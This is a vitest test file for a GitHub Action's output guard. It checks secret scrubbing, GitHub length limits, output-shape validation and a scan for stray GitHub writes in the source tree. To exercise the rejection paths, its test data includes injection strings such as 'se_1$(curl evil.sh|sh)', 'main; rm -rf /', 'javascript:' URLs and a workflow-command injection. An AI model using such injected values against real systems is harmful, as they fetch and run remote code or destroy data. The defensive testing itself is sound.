import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { OUTPUT_SHAPES, Output, type OutputName } from '../src/constants.js';
import {
  LIMITS,
  commentBody,
  deploymentDescription,
  deploymentUrl,
  issueBody,
  issueLabel,
  issueTitle,
  outputValue,
  releaseBody,
  releaseName,
  summaryText,
} from '../src/guard.js';
import { buildStickyBody } from '../src/github/sticky-comment.js';
import { addSecret } from '../src/secrets.js';
import { ROOT } from './helpers/run-action.js';

const KEY = 'mint_guardtestkey0123456789';
const TOKEN = 'ghs_guardTestToken0123456789';
const OIDC = 'eyJhbGciOi.guard-oidc-token.sig';
const LINK = 'https://bucket.s3.amazonaws.com/b.tar.gz?X-Amz-Signature=abc123&X-Amz-Expires=60';

describe('guard: every sink is scrubbed and bounded', () => {
  // Registering masks in the log (stdout): keep the test's output quiet.
  vi.spyOn(process.stdout, 'write').mockImplementation(() => true);
  for (const s of [KEY, TOKEN, OIDC, LINK]) addSecret(s);
  vi.restoreAllMocks();
  const echo = `failed: key ${KEY}, token ${TOKEN}, oidc ${OIDC}, link ${LINK}, query ${LINK.split('?')[1]}`;
  const secretFree = (text: string): void => {
    for (const s of [KEY, TOKEN, OIDC, LINK, 'X-Amz-Signature=abc123']) {
      expect(text).not.toContain(s);
    }
  };

  it.each([
    ['comment', commentBody],
    ['issue body', issueBody],
    ['issue title', issueTitle],
    ['deployment description', deploymentDescription],
    ['release name', releaseName],
    ['release body', releaseBody],
    ['job summary', summaryText],
  ] as const)('%s: no registered secret is left', (_, guard) => {
    const out = guard(echo);
    secretFree(out);
    expect(out).toContain('failed: key ***');
  });

  it('finds a secret that markdown or HTML escaping changed on its way into the text', () => {
    const escaped = TOKEN.replace(/_/g, '\\_');
    const html = `${KEY.slice(0, 5)}\u200b${KEY.slice(5)}`;
    const out = commentBody(`> failed: ${escaped} and ${html}`);
    expect(out).toBe('> failed: *** and ***');
  });

  it('keeps each sink under its GitHub limit', () => {
    expect(commentBody('x'.repeat(200_000)).length).toBeLessThanOrEqual(LIMITS.comment);
    expect(commentBody('x'.repeat(200_000))).toContain("reached GitHub's limit");
    expect(releaseBody('y'.repeat(300_000)).length).toBeLessThanOrEqual(LIMITS.releaseBody);
    expect(Buffer.byteLength(summaryText('é'.repeat(2_000_000)))).toBeLessThanOrEqual(
      LIMITS.summaryBytes,
    );
    expect(Array.from(deploymentDescription('z'.repeat(500)))).toHaveLength(140);
    expect(issueBody('x'.repeat(200_000)).length).toBeLessThanOrEqual(LIMITS.issueBody);
    expect(Array.from(issueTitle(`a\n${'t'.repeat(500)}`))).toHaveLength(256);
    expect(issueTitle('a\nb')).toBe('a b');
    expect(Array.from(issueLabel('l'.repeat(80)))).toHaveLength(50);
    expect(deploymentDescription('a\nb\r\nc')).toBe('a b c');
    // Within the limit, nothing changes.
    expect(commentBody('## ok\n\nfine')).toBe('## ok\n\nfine');
  });

  it('lets only a credential-free http(s) link behind a Deployment', () => {
    expect(deploymentUrl('https://docs.example.com/preview')).toBe(
      'https://docs.example.com/preview',
    );
    for (const bad of [
      'javascript:alert(1)//https://x',
      'data:text/html,hi',
      'https://user:pw@example.com/',
      LINK,
      'https://a.example/ x',
      undefined,
    ]) {
      expect(deploymentUrl(bad)).toBeUndefined();
    }
  });

  it('scrubs the sticky comment before its digest: a new token does not make a new digest', () => {
    const a = buildStickyBody('k', `log: ${TOKEN}`);
    const b = buildStickyBody('k', 'log: ***');
    secretFree(a);
    expect(a).toBe(b);
  });
});

describe('guard: outputs have shapes', () => {
  let warnings: string[] = [];
  afterEach(() => {
    vi.restoreAllMocks();
  });
  function check(name: OutputName, value: string): string | undefined {
    warnings = [];
    vi.spyOn(process.stdout, 'write').mockImplementation((chunk) => {
      const line = String(chunk);
      if (line.startsWith('::warning')) warnings.push(line);
      return true;
    });
    const out = outputValue(name, value);
    vi.restoreAllMocks();
    return out;
  }

  it('every output declared in action.yml has a shape, and only those', () => {
    const yml = readFileSync(path.join(ROOT, 'action.yml'), 'utf8');
    const declared = [
      ...yml.slice(yml.indexOf('\noutputs:')).matchAll(/^ {2}([a-z0-9-]+):$/gm),
    ].map((m) => m[1]);
    expect(Object.keys(OUTPUT_SHAPES).sort()).toEqual([...declared].sort());
    expect(Object.values(Output).sort()).toEqual([...declared].sort());
  });

  it.each([
    [Output.PreviewUrl, 'https://acme-docs-x.preview.mintlify.app'],
    [Output.StatusId, 'st_0123456789abcdef'],
    [Output.JobId, 'se_0123456789abcdef'],
    [Output.CommitSha, 'a'.repeat(40)],
    [Output.BundleSha256, 'f'.repeat(64)],
    [Output.CommentId, '123'],
    [Output.FilesChanged, '{"added":["a b.mdx"],"modified":[],"removed":[]}'],
    [Output.ExpiresAt, '2026-11-25T15:00:00.000Z'],
    [Output.BundlePath, '/home/runner/work/_temp/docs.tar.gz'],
    [Output.HasMore, 'false'],
    [Output.Outcome, 'skipped'],
    [Output.BundleUrl, LINK],
    [Output.Status, ''],
  ] as const)('%s passes %j', (name, value) => {
    expect(check(name, value)).toBe(value);
    expect(warnings).toEqual([]);
  });

  it.each([
    [Output.PreviewUrl, 'javascript:alert(1)//https://x', 'not an http(s) URL'],
    [Output.PreviewUrl, 'https://x.example/$(id)', '`$`'],
    [Output.StatusId, 'st_1\n::set-output name=outcome::x', 'not an id'],
    [Output.JobId, 'se_1$(curl evil.sh|sh)', 'not an id'],
    [Output.JobId, 'x'.repeat(129), 'not an id'],
    [Output.CommitSha, 'main; rm -rf /', 'not a hex digest'],
    [Output.CommentId, '12 34', 'not a whole number'],
    [Output.FilesChanged, '{"added":', 'not JSON'],
    [Output.ExpiresAt, 'tomorrow', 'not an ISO 8601 time'],
    [Output.BundlePath, 'relative/x\n', 'not an absolute file path'],
    [Output.Outcome, 'PWN', 'not one of'],
    [Output.StatusId, KEY, 'holds a secret'],
    [Output.PreviewUrl, LINK, 'holds a secret'],
  ] as const)('%s withholds %j with one warning', (name, value, why) => {
    expect(check(name, value)).toBeUndefined();
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toContain(`\`${name}\` output is left unset`);
    expect(warnings[0]).toContain(why);
    // Never the raw value.
    expect(warnings[0]).not.toContain(value.slice(0, 12));
  });
});

/** A line of src/ that writes to GitHub or to the step's outputs/summary, by kind. */
const WRITES: readonly (readonly [string, RegExp])[] = [
  [
    'Octokit REST write',
    /\brest\.\w+\.(create|update|delete|remove|add|set|upload|merge|replace|lock|unlock|request)\w*\b/,
  ],
  ['Octokit request write', /\.request\(\s*['"`](POST|PATCH|PUT|DELETE)\b/],
  ['Octokit request write', /\bmethod:\s*['"`](POST|PATCH|PUT|DELETE)['"`]/],
  ['GraphQL mutation', /\bmutation\b/],
  ['job summary', /\bsummary\.(addRaw|write|add\w*)\(|\bcore\.summary\b/],
  ['step output', /\.setOutput\(/],
  // A bare `setOutput(` is the guard's own: imported from anywhere else, it is a stray write.
  ['step output', /import\s*\{[^}]*\bsetOutput\b[^}]*\}\s*from\s*'(?!(\.\.?\/)+guard\.js')/],
];

/** Where each kind of write may stand: the guard and the GitHub-writing functions it feeds. */
const ALLOWED: Readonly<Record<string, readonly string[]>> = {
  'Octokit REST write': [
    'github/sticky-comment.ts',
    'github/report-issue.ts',
    'github/deployments.ts',
    'publish/release.ts',
    'publish/pages-deploy.ts',
  ],
  'Octokit request write': ['publish/release.ts', 'publish/pages-deploy.ts'],
  'GraphQL mutation': [],
  'job summary': ['modes/shared/job-summary.ts'],
  'step output': ['guard.ts', 'log.ts'],
};

/**
 * The writes of `text` that stand outside their allowed modules, as `kind: line`. The platform
 * client's own POSTs go to the Mintlify API, not GitHub: platform/ may not import Octokit at all
 * (checked below), so its requests are not GitHub writes.
 */
export function strayWrites(file: string, text: string): string[] {
  const found: string[] = [];
  const octokitFree = file.startsWith('platform/');
  for (const raw of text.split('\n')) {
    const line = raw.trim();
    // Comments explain; they write nothing.
    if (line.startsWith('*') || line.startsWith('//') || line.startsWith('/*')) continue;
    for (const [kind, pattern] of WRITES) {
      if (octokitFree && kind.startsWith('Octokit')) continue;
      if (pattern.test(line) && !(ALLOWED[kind] ?? []).includes(file)) {
        found.push(`${kind}: ${line}`);
      }
    }
  }
  return found;
}

describe('nothing in src/ writes to GitHub around the guard', () => {
  function files(dir: string): string[] {
    return readdirSync(dir, { withFileTypes: true }).flatMap((e) =>
      e.isDirectory() ? files(path.join(dir, e.name)) : [path.join(dir, e.name)],
    );
  }
  const src = path.join(ROOT, 'src');
  const sources = files(src)
    .filter((f) => f.endsWith('.ts'))
    .map((f) => path.relative(src, f).split(path.sep).join('/'));

  it('finds the sources and the writers', () => {
    expect(sources.length).toBeGreaterThan(30);
    for (const list of Object.values(ALLOWED)) {
      for (const file of list) expect(sources).toContain(file);
    }
  });

  it.each(sources)('%s', (file) => {
    const text = readFileSync(path.join(src, file), 'utf8');
    expect(strayWrites(file, text)).toEqual([]);
    if (file.startsWith('platform/')) {
      expect(text).not.toMatch(
        /from '(@actions\/github|@octokit\/[\w-]+|\.\.\/github\/[\w-]+\.js)'/,
      );
    }
  });

  it('the writers take only guarded text', () => {
    const read = (f: string): string => readFileSync(path.join(src, f), 'utf8');
    expect(read('github/sticky-comment.ts')).toMatch(/readonly body: SafeText<'comment'>/);
    for (const field of ['title', 'label', 'body']) {
      expect(read('github/report-issue.ts')).toMatch(
        new RegExp(`readonly ${field}: SafeText<'issue'>`),
      );
    }
    expect(read('github/deployments.ts')).toMatch(/readonly description: SafeText<'deployment'>/);
    expect(read('modes/shared/job-summary.ts')).toMatch(/markdown: SafeText<'summary'>/);
    expect(read('log.ts')).toMatch(/writeOutput\(name: string, value: SafeText<'output'>\)/);
    // Only the guard makes SafeText.
    for (const file of sources.filter((f) => f !== 'guard.ts')) {
      expect(read(file), file).not.toMatch(/as SafeText/);
    }
  });

  it('the scan itself catches each kind of write', () => {
    const planted = [
      'await octokit.rest.issues.createComment({ owner, repo, issue_number: 1, body });',
      'await octokit.rest.repos.updateRelease({ owner, repo, release_id: 1, body });',
      "await octokit.request('POST /repos/{owner}/{repo}/issues/{n}/comments', { body });",
      "await octokit.request({ method: 'PATCH', url });",
      "await octokit.graphql('mutation { addComment(input: {}) { clientMutationId } }');",
      'await core.summary.addRaw(text).write();',
      'core.setOutput(Output.StatusId, id);',
      "import { setOutput } from '@actions/core';",
      "import { info, setOutput } from '../log.js';",
    ];
    for (const line of planted) expect(strayWrites('modes/x.ts', line), line).toHaveLength(1);
    for (const fine of [
      "await octokit.request('GET /repos/{o}/{r}/pages');",
      "import { setOutput, summaryText } from '../guard.js';",
      'setOutput(Output.StatusId, id);',
    ]) {
      expect(strayWrites('modes/x.ts', fine), fine).toEqual([]);
    }
  });
});
